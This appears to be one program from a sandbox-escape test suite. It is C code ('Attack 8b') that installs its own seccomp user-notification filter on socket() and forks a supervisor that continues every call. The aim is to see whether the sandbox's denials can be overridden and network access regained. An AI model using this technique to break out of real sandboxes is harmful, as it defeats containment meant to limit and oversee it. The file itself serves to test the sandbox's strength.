/* Attack 8b: a user-notification filter of one's own. For
 * SECCOMP_RET_USER_NOTIF the newest filter wins, and a supervisor that
 * answers SECCOMP_USER_NOTIF_FLAG_CONTINUE lets the call proceed: if the
 * backstop used USER_NOTIF or TRACE for its denials, this would override
 * them. An ERRNO (or KILL/TRAP) verdict of any filter beats USER_NOTIF.
 * The program installs (through the strata gadget) a filter that notifies
 * on socket(), forks a supervisor that continues every notification, and
 * calls socket(AF_INET) through the gadget. */
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

int main(void) {
    struct gadget g = find_gadget();
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = 4, .filter = f};
    gadget_call(g.addr, SYS_prctl, PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0, 0);
    long listener = gadget_call(g.addr, SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER,
                                (long)&prog, 0, 0, 0);
    if (listener < 0) {
        printf("gadget seccomp(USER_NOTIF filter, NEW_LISTENER) = -%s\n", errname(-listener));
        /* Without a listener of our own there is nothing to override with. */
        int esc = attempt("without our filter: gadget socket(AF_INET)",
                          gadget_call(g.addr, SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0));
        return verdict(esc);
    }
    printf("gadget seccomp(USER_NOTIF filter, NEW_LISTENER) = listener fd %ld\n", listener);
    pid_t sup = fork();
    if (sup < 0)
        setup_failed("fork");
    if (sup == 0) {
        for (;;) {
            struct seccomp_notif req;
            memset(&req, 0, sizeof req);
            if (gadget_call(g.addr, SYS_ioctl, listener, SECCOMP_IOCTL_NOTIF_RECV, (long)&req, 0, 0, 0) < 0)
                _exit(0);
            struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
            gadget_call(g.addr, SYS_ioctl, listener, SECCOMP_IOCTL_NOTIF_SEND, (long)&resp, 0, 0, 0);
        }
    }
    int esc = attempt("with a CONTINUE-ing supervisor: gadget socket(AF_INET)",
                      gadget_call(g.addr, SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0));
    esc |= attempt("with a CONTINUE-ing supervisor: trapping syscall socket(AF_INET)",
                   jit_call(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0));
    kill(sup, SIGKILL);
    waitpid(sup, NULL, 0);
    return verdict(esc);
}
